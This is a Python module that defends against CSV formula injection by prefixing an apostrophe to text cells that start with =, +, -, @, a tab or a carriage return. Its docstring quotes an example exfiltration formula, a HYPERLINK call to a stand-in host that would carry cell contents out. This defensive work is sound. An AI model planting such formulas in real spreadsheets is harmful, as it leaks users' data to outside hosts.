"""CSV that a spreadsheet opens as data: a text cell that Excel, LibreOffice or Google Sheets would run as a formula
(it starts with =, +, -, @, a tab or a carriage return) gets a leading apostrophe, as OWASP's "CSV injection" advice
says. An ID such as `=HYPERLINK("http://x/?"&A1)` in an uploaded file would otherwise come back as a live formula in
the graded file. `korllama predict` (korllama.predict.predict_file) applies it to every chunk it writes, so the
page's graded files get it too."""

from __future__ import annotations

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells (object or string columns) that start like a formula begin with "'".
    Numbers are left as they are (a negative number is a number), and so is a cell already neutralised, so applying
    it twice changes nothing."""
    out = frame.copy()
    for name in out.columns:
        column = out[name]
        if not (pd.api.types.is_object_dtype(column) or pd.api.types.is_string_dtype(column)):
            continue
        values = column.to_numpy(dtype=object, copy=True)
        formula = [isinstance(v, str) and v.startswith(FORMULA_STARTS) for v in values]
        if any(formula):
            values[formula] = ["'" + v for v in values[formula]]
            out[name] = pd.Series(values, index=column.index, dtype=column.dtype)
    return out
